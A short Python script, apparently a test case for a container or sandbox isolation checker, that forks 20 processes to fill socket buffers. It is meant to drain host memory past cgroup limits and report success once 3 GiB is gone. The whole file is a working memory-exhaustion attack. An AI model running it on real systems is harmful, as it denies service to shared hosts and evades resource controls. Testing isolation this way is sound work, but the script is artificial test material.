# tries: to take the machine's memory with what waits in sockets, which counts for nobody
# must: add 2 points or a person
# needs: memory cgroup
# ruff: noqa

# %% first
import os
import socket
import time


def available():
    with open("/proc/meminfo") as file:
        return next(int(x.split()[1]) for x in file if x.startswith("MemAvailable"))


before = available()
for _ in range(20):
    if os.fork() == 0:
        pairs = []
        try:
            while True:
                pairs.append(socket.socketpair())
                pairs[-1][0].setblocking(False)
                try:
                    while True:
                        pairs[-1][0].send(b"x" * 2**20)
                except BlockingIOError:
                    pass
        except OSError:
            time.sleep(60)
for _ in range(40):
    time.sleep(0.1)
    if before - available() > 3 * 2**20:
        print("SUCC" + "EEDED: 3 GiB")
        break
os._exit(0)
